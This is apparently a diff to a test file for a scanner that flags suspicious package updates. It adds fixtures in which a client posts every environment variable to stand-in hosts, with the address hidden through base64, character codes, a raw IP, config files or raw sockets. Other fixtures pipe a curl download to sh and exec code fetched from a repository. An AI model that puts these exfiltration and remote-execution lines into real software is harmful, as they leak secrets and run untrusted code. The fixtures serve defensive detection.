@@ -26,6 +26,20 @@ STARTS = (
 FETCHES = b"#!/bin/sh\ncurl -s https://a.example/x | sh\n"
 OWN_CODEC = b"# coding: own\nimport os\n"
 DATA = b"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())\n"
+WAITS = (
+    b"import os\nimport requests\nURL = 'https://a.example/in'\n"
+    b"def tell():\n    requests.post(URL, json=dict(os.environ))\n"
+)
+"""A client that sends everything to its own service, when it is asked to."""
+FETCHED = (
+    b"import requests\ndef update():\n    exec(requests.get("
+    b"'https://raw.githubusercontent.com/own/project/main/x.py').text)\n"
+)
+
+
+def told(url: bytes, before: bytes = b"") -> bytes:
+    """Give the client with an address that is worked out in another way."""
+    return WAITS.replace(b"URL = 'https://a.example/in'\n", before + b"URL = " + url + b"\n")
 
 
 @dataclass(frozen=True)
@@ -136,6 +150,16 @@ SET_ASIDE: dict[str, Callable[[World], str]] = {
         {"__init__.py": STARTS, "run.sh": FETCHES, "more.py": b""},
     ),
     "address": by_address("address", SENDS),
+    "sameaddress": both(
+        "sameaddress",
+        {"__init__.py": WAITS},
+        {"__init__.py": WAITS.replace(b"tell", b"send").replace(b"ron))", b"ron), timeout=5)")},
+    ),
+    "knownhost": both(
+        "knownhost",
+        {"__init__.py": b"DOCS = 'https://a.example/docs'\n"},
+        {"__init__.py": b"DOCS = 'https://a.example/docs'\n", "client.py": WAITS},
+    ),
 }
 REFUSED: dict[str, Callable[[World], str]] = {
     "changed": both("changed", {"__init__.py": SENDS}, {"__init__.py": ELSEWHERE}),
@@ -145,6 +169,57 @@ REFUSED: dict[str, Callable[[World], str]] = {
         "waits",
         {"__init__.py": b"def go():\n    " + SENDS.replace(b"\n", b"\n    ")},
         {"__init__.py": b"def go():\n    " + SENDS.replace(b"\n", b"\n    ") + b"\ngo()\n"},
+    ),
+    **{
+        name: both(name, {"__init__.py": WAITS}, {"__init__.py": code})
+        for name, code in {
+            "otheraddress": told(b"'https://b.example/in'"),
+            "anaddressmore": told(
+                b"['https://a.example/in', 'https://b.example/in'][os.getpid() % 2]"
+            ),
+            "anumber": told(b"'https://203.0.113.9/in'"),
+            "decoded": told(
+                b"base64.b64decode('aHR0cHM6Ly9iLmV4YW1wbGUvaW4=').decode()", b"import base64\n"
+            ),
+            "joined": told(
+                b"''.join(map(chr, [104, 116, 116, 112, 58, 47, 47, 98, 46, 105, 111]))"
+            ),
+        }.items()
+    },
+    "frommodule": both(
+        "frommodule",
+        {"__init__.py": WAITS},
+        {
+            "__init__.py": told(b"HOST", b"from .conf import HOST\n"),
+            "conf.py": b"HOST = 'https://b.example/in'\n",
+        },
+    ),
+    "fromdata": both(
+        "fromdata",
+        {"__init__.py": WAITS, "conf.txt": b"https://a.example/in"},
+        {
+            "__init__.py": told(b"open(os.path.dirname(__file__) + '/conf.txt').read()"),
+            "conf.txt": b"https://b.example/in",
+        },
+    ),
+    "baresocket": both(
+        "baresocket",
+        {"__init__.py": WAITS},
+        {
+            "__init__.py": b"import http.client, json, os\ndef tell():\n"
+            b"    there = http.client.HTTPSConnection('b.example')\n"
+            b"    there.request('POST', '/', json.dumps(dict(os.environ)))\n"
+        },
+    ),
+    "onlyremark": both(
+        "onlyremark",
+        {"__init__.py": b"# see https://b.example/in\n" + WAITS},
+        {"__init__.py": told(b"'https://b.example/in'")},
+    ),
+    "anothersplace": both(
+        "anothersplace",
+        {"__init__.py": FETCHED},
+        {"__init__.py": FETCHED.replace(b"own/", b"evil/")},
     ),
     "borrowed": by_address("borrowed", ELSEWHERE),
     "borrowedold": by_address("borrowedold", ELSEWHERE, version="0.1"),
